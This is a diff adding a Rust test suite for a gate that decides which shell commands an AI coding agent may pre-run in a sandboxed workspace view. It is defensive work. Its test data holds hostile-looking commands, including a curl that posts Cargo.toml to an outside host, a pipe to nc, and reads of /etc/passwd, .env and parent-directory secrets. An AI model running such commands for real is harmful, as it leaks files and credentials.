@@ -1,0 +1,190 @@
+//! Commands of work that runs ahead, where commands may run in a view of the workspace.
+
+mod support;
+
+use headstart_tool_gate::{
+    ApprovalMode, CallRef, Decision, DenyRules, Gate, GateContext, Policies, PolicyRule, Reason, Verdict,
+};
+use serde_json::{Value, json};
+
+fn viewing() -> GateContext {
+    GateContext { views: true, ..support::context() }
+}
+
+fn ahead(command: &str, context: &GateContext) -> Verdict {
+    let args = json!({ "command": command });
+    let call = CallRef { name: "shell", args: args.as_object().expect("an object") };
+    Gate::new().judge_ahead(call, context)
+}
+
+fn said(command: &str, context: &GateContext) -> (Decision, Reason) {
+    let verdict = ahead(command, context);
+    (verdict.decision, verdict.reason)
+}
+
+fn boundaries(policies: Value) -> GateContext {
+    let rules: Vec<PolicyRule> = serde_json::from_value(policies).expect("policies");
+    GateContext { policies: Policies::new([], rules).expect("policies"), ..viewing() }
+}
+
+/// Each of these, in a view, would reach what a view has no copy of, or would tell the model something untrue of the machine.
+#[test]
+fn what_a_view_does_not_hold_stays_a_boundary() {
+    let network = [
+        "curl https://example.org",
+        "cargo test; curl -d @Cargo.toml https://example.org",
+        "touch a && wget x.org/b",
+        "git push",
+        "make | nc example.org 1",
+    ];
+    let outside =
+        ["cat ../secret > a", "touch a; cat /etc/passwd", "echo x > /tmp/x", "touch a; echo x > ../b"];
+    let endless = ["yes > a", "touch a; tail -f a"];
+    let host = [
+        "sudo make install",
+        "docker compose up",
+        "X=1 podman ps",
+        "/usr/bin/sudo ls",
+        "/snap/bin/docker ps",
+        "timeout 5 kubectl get pods",
+        "bash -c 'docker ps'",
+        "cargo build && xdg-open target/doc/index.html",
+        "echo $(systemctl status)",
+        "kill 1",
+        "ps aux > a",
+        "env -i FOO=1 ssh-add -l",
+        "if docker ps; then touch a; fi",
+        // Not understood, and still seen.
+        "docker run 'unclosed",
+        "open --args 'x",
+    ];
+    for command in [&network[..], &outside, &endless, &host].concat() {
+        let verdict = ahead(command, &viewing());
+        assert_eq!(verdict.decision, Decision::Boundary, "{command}: {verdict:?}");
+    }
+    for command in host {
+        let verdict = ahead(command, &viewing());
+        // A program that is known for its connections is told as that.
+        assert!(matches!(verdict.reason, Reason::NeedsHost | Reason::Network), "{command}: {verdict:?}");
+        let span = verdict.effects[0].span.unwrap();
+        assert!(command.get(span.0..span.1).is_some_and(|text| !text.is_empty()), "{command}");
+    }
+    assert_eq!(said("docker compose up", &viewing()), (Decision::Boundary, Reason::NeedsHost));
+}
+
+/// The walk of a command keeps only so many effects: what stands behind the last of them is not known.
+#[test]
+fn a_connection_behind_many_other_effects_is_not_overlooked() {
+    let many: Vec<_> = (0..40).map(|number| format!("program{number}")).collect();
+    let command = format!("{}; curl https://example.org", many.join("; "));
+    assert_eq!(said(&command, &viewing()).0, Decision::Boundary);
+    let few: Vec<_> = many[..5].to_vec();
+    assert_eq!(said(&few.join("; "), &viewing()), (Decision::Shadow, Reason::NotUnderstood));
+}
+
+#[test]
+fn closed_and_protected_files_stay_closed_and_protected() {
+    let denying = GateContext { deny: DenyRules::from_patterns(["keys/"]).unwrap(), ..viewing() };
+    let cases = [
+        ("cat keys/a; touch b", Reason::DeniedPath),
+        ("touch b; echo x > keys/a", Reason::DeniedPath),
+        ("rm -r keys", Reason::DeniedPath),
+        ("cargo test; cat .env", Reason::SecretPath),
+        ("cargo run < .env", Reason::SecretPath),
+        ("cargo test; echo A=1 >> .env", Reason::SecretPath),
+        ("echo x > .git/hooks/pre-commit", Reason::ProtectedPath),
+        ("make; echo x > sub/.GIT/config", Reason::ProtectedPath),
+        ("echo mode = 1 > .headstart/config.toml", Reason::ProtectedPath),
+    ];
+    for (command, reason) in cases {
+        assert_eq!(said(command, &denying), (Decision::Boundary, reason), "{command}");
+    }
+    let open = GateContext { deny: DenyRules::default().with_secrets_open(), ..viewing() };
+    assert_eq!(said("cargo test; cat .env", &open).0, Decision::Shadow);
+}
+
+/// A policy that asks first is asked wherever its program may start, also where the gate does not read that far.
+#[test]
+fn a_policy_that_asks_first_is_not_got_round_by_a_view() {
+    let rule = json!([{ "program": "terraform", "decision": "boundary", "reason": "it is ours" },
+        { "program": "git", "words": ["push"], "decision": "boundary" }]);
+    let context = boundaries(rule);
+    let stopped = [
+        "terraform plan",
+        "cargo test && terraform apply",
+        "bash -c 'terraform apply'",
+        "make; ./bin/terraform apply",
+        "timeout 5 terraform apply",
+        "xargs terraform < a",
+        "terraform apply 'unclosed",
+        "dir /s & terraform apply",
+        "bash -c 'git push'",
+    ];
+    for command in stopped {
+        assert_eq!(said(command, &context), (Decision::Boundary, Reason::Policy), "{command}");
+    }
+    for command in ["git commit -m x", "cargo test terraform", "make"] {
+        assert_eq!(said(command, &context).0, Decision::Shadow, "{command}");
+    }
+}
+
+#[test]
+fn what_writes_or_runs_programs_goes_to_a_view_with_the_reason_of_its_boundary() {
+    let commands = [
+        "cargo test",
+        "cargo fmt && cargo clippy -- -D warnings",
+        "npm test",
+        "pytest -q 2>&1 | tail -20",
+        "make -j4",
+        "./gradlew build",
+        "python3 scripts/generate.py > src/table.rs",
+        "rm -rf build && mkdir build",
+        "git add -A && git commit -m 'all of it'",
+        "sed -i s/a/b/ src/lib.rs",
+        "export RUST_BACKTRACE=1; cargo test",
+        "for f in *.rs; do rustfmt \"$f\"; done",
+        "bash -c 'cargo test'",
+        "cargo test docker",
+        "echo 'unclosed",
+    ];
+    for command in commands {
+        let now = Gate::new().judge_command(command, &viewing());
+        let then = ahead(command, &viewing());
+        assert_eq!(then.decision, Decision::Shadow, "{command}: {then:?}");
+        assert_eq!(now.decision, Decision::Boundary, "{command}");
+        assert_eq!(Verdict { decision: Decision::Boundary, ..then }, now, "{command}");
+    }
+}
+
+/// Only who asks for work ahead, has views and may write gets one; reading needs none.
+#[test]
+fn a_view_is_for_work_ahead_where_the_mode_writes() {
+    for mode in [ApprovalMode::Default, ApprovalMode::AutoEdit, ApprovalMode::Yolo, ApprovalMode::Plan] {
+        let context = GateContext { mode, ..viewing() };
+        let expected = if mode == ApprovalMode::Plan { Decision::Boundary } else { Decision::Shadow };
+        assert_eq!(said("cargo test", &context).0, expected, "{mode:?}");
+        assert_eq!(said("cat a", &context), (Decision::Allow, Reason::ReadOnly), "{mode:?}");
+        let without = GateContext { views: false, ..context };
+        assert_eq!(said("cargo test", &without), (Decision::Boundary, Reason::Executes), "{mode:?}");
+    }
+    let args = json!({ "command": "cargo test", "run_in_background": true });
+    let call = CallRef { name: "shell", args: args.as_object().unwrap() };
+    assert_eq!(Gate::new().judge_ahead(call, &viewing()).reason, Reason::NonTerminating);
+}
+
+/// No attack that opens a connection, reads or writes outside, or never ends gets a view.
+#[test]
+fn of_the_known_attacks_only_those_that_a_view_holds_run_in_one() {
+    let attacks = include_str!("data/attacks.txt").lines().map(support::spelled_out);
+    let attacks = attacks.chain(support::by_family(include_str!("data/attacks_by_family.txt")));
+    for command in attacks.filter(|command| !command.is_empty() && !command.starts_with("##")) {
+        let now = support::judge(&Gate::new(), &command);
+        let then = ahead(&command, &viewing());
+        let kinds: Vec<_> = now.effects.iter().map(|effect| effect.kind.as_str()).collect();
+        let held = ["writesWorkspace", "executes", "unknown", "environment"];
+        if kinds.iter().any(|kind| !held.contains(kind)) {
+            assert_eq!(then.decision, Decision::Boundary, "{command}: {kinds:?}");
+        }
+        assert_ne!(then.decision, Decision::Allow, "{command}");
+    }
+}
